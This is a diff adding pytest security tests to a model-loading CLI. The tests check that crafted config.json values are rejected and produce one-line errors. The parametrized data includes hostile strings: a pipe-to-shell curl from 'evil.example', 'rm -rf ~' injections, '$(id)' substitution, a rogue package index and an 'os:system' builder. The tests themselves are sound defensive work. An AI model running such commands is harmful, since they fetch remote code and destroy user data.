@@ -141,3 +141,136 @@ def test_h1_kwargs_the_catalog_declares_still_load(pristine, tmp_path):
     res = CliRunner().invoke(app, ["get", str(d), "--json"])
     assert res.exit_code == 0, res.stderr
     assert json.loads(res.stdout)["output_shape"] == [1, 1000]
+
+
+# -- item 6: the install advice a directory chooses --------------------------------------------
+
+@pytest.mark.parametrize("dist", [
+    "x; curl http://evil.example/p | sh", "--extra-index-url http://evil.example zoo-x",
+    "zoo-x\nrm -rf ~", "zoo-x && rm -rf ~", "zoo-x @ https://evil.example/x.whl", "-e .",
+    "zoo-x$(id)",
+])
+def test_h6_install_advice_only_names_a_plain_distribution(pristine, tmp_path, dist):
+    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
+    config = json.loads((d / "config.json").read_text())
+    config.update(name="zoo-x/model", plugin="zoo_x", plugin_distribution=dist)
+    (d / "config.json").write_text(json.dumps(config))
+    res = CliRunner().invoke(app, ["get", str(d)])
+    err = res.stderr.strip()
+    assert res.exit_code == 1 and len(err.splitlines()) == 2, err  # + the --debug hint
+    assert "pip install" not in err and "evil" not in err and "rm -rf" not in err, err
+    assert "install the plugin that made it" in err, err
+
+
+def test_h6_a_plain_distribution_name_is_still_advised(pristine, tmp_path):
+    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
+    config = json.loads((d / "config.json").read_text())
+    config.update(name="zoo-x/model", plugin="zoo_x", plugin_distribution="zoo-x.models_2")
+    (d / "config.json").write_text(json.dumps(config))
+    res = CliRunner().invoke(app, ["get", str(d)])
+    assert res.exit_code == 1 and "(pip install zoo-x.models_2)" in res.stderr, res.stderr
+
+
+# -- item 10: crafted config.json, one line each -----------------------------------------------
+
+NESTED = "[" * 100_000 + "]" * 100_000
+
+
+@pytest.mark.parametrize(("edit", "says"), [
+    ('"just a string"', "holds a JSON str, not an object"),
+    ("[1, 2, 3]", "holds a JSON list, not an object"),
+    (NESTED, "nested too deeply"),
+    ({"kwargs": [1]}, "'kwargs' must be a table"),
+    ({"kwargs": {"num_classes": json.loads("[" * 50 + "]" * 50)}}, "kwargs.num_classes"),
+    ({"name": ["bert_tiny"]}, "no installed plugin or catalog declares"),
+    ({"name": "bert_tiny\nINJECTED"}, "no installed plugin or catalog declares"),
+    ({"tag": ["x"]}, "'tag'"),
+    ({"tag": "no-such-tag"}, "'tag'"),
+    ({"files": [1]}, "'files' must be tables"),
+    ({"files": {"num_classes": "config.json"}}, "files.num_classes is not a file argument"),
+    ({"weights": {"a": 1}}, "'weights' must be a relative file name"),
+    ({"builder": ["os:system"]}, "'builder' must be a string"),
+])
+def test_h10_crafted_config_json_is_one_line(pristine, tmp_path, edit, says):
+    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
+    if isinstance(edit, str):
+        (d / "config.json").write_text(edit)
+    else:
+        config = json.loads((d / "config.json").read_text())
+        config.update(edit)
+        (d / "config.json").write_text(json.dumps(config))
+    res = CliRunner().invoke(app, ["get", str(d)])
+    err = [ln for ln in res.stderr.strip().splitlines() if not ln.startswith("(set ZOO_")]
+    assert res.exit_code in (1, 2) and len(err) == 1 and err[0].startswith("Error: "), \
+        (res.exit_code, res.stderr, repr(res.exception))
+    assert says in err[0] and "INJECTED" not in err[0].split("\\n")[0][-9:], err[0]
+
+
+def test_h10_config_json_that_is_a_fifo_or_huge_is_refused(pristine, tmp_path):
+    import os
+
+    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
+    (d / "config.json").unlink()
+    os.mkfifo(d / "config.json")               # reading it would block forever
+    _refused_any(CliRunner().invoke(app, ["get", str(d)]), "not a regular file")
+    (d / "config.json").unlink()
+    with open(d / "config.json", "wb") as f:
+        f.truncate(5 << 20)                    # sparse: 5 MiB of zeros, no disk used
+    _refused_any(CliRunner().invoke(app, ["get", str(d)]), "more than a model's config")
+
+
+def _refused_any(res, says: str) -> None:
+    err = res.stderr.strip()
+    assert res.exit_code == 2 and len(err.splitlines()) == 1 and says in err, err
+
+
+def test_h10_hub_repo_whose_assets_is_not_a_table(pristine, tmp_path, monkeypatch):
+    repo = Path(shutil.copytree(pristine["bert"], tmp_path / "hub" / "mallory" / "bert"))
+    config = json.loads((repo / "config.json").read_text())
+    config["assets"] = ["files/x"]
+    (repo / "config.json").write_text(json.dumps(config))
+    with HubServer(tmp_path / "hub") as hub:
+        monkeypatch.setenv("HF_ENDPOINT", hub.url)
+        monkeypatch.setenv("HF_HUB_CACHE", str(tmp_path / "hf" / "hub"))
+        monkeypatch.delenv("HF_HUB_OFFLINE", raising=False)
+        res = CliRunner().invoke(app, ["get", "hf-hub:mallory/bert"])
+    err = res.stderr.strip().splitlines()
+    assert res.exit_code == 1 and err[0].startswith("Error: ") and "'assets'" in err[0], err
+
+
+def test_h10_publish_of_non_safetensors_weights_is_not_a_memory_error(pristine, tmp_path):
+    """A pickle's first 8 bytes read as a safetensors header length ask for exabytes."""
+    import hashlib
+
+    import torch
+
+    d = Path(shutil.copytree(pristine["bert"], tmp_path / "model"))
+    torch.save({"w": torch.zeros(3)}, d / "model.safetensors")
+    config = json.loads((d / "config.json").read_text())
+    config["sha256"] = hashlib.sha256((d / "model.safetensors").read_bytes()).hexdigest()
+    (d / "config.json").write_text(json.dumps(config))
+    res = CliRunner().invoke(app, ["publish", str(d), "--repo", "alice/x", "--dry-run",
+                                   "--out", str(tmp_path / "staged")])
+    assert not isinstance(res.exception, MemoryError | TypeError), repr(res.exception)
+    err = [ln for ln in res.stderr.strip().splitlines() if ln.startswith("Error")]
+    assert res.exit_code == 0 or len(err) == 1, (res.exit_code, res.stderr)
+    assert "Traceback" not in res.output
+
+
+def test_h10_a_builder_returning_a_non_module_is_one_line(tmp_path, monkeypatch):
+    cat = tmp_path / "cat.toml"
+    cat.write_text('[models.not-a-module]\nfamily = "cnn"\ntask = "image-classification"\n'
+                   'builder = "builtins:dict"\ninput = { size = [1, 8, 8] }\n')
+    monkeypatch.setenv("ZOO_CATALOG", str(cat))
+    res = CliRunner().invoke(app, ["get", "not-a-module", "--save", str(tmp_path / "out")])
+    assert res.exit_code == 1 and "returned a dict, not a torch.nn.Module" in res.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_h10_an_exception_in_the_summary_forward_pass_is_one_line(tmp_path):
+    res = CliRunner().invoke(app, ["get", "gan", "-k", "latent_dim=16", "--save",
+                                   str(tmp_path / "out")])
+    err = res.stderr.strip()
+    assert res.exit_code == 2 and len(err.splitlines()) == 1, (err, repr(res.exception))
+    assert "one forward pass on its declared input [1, 64] failed" in err, err
+    assert "nothing was saved" in err and not (tmp_path / "out").exists()
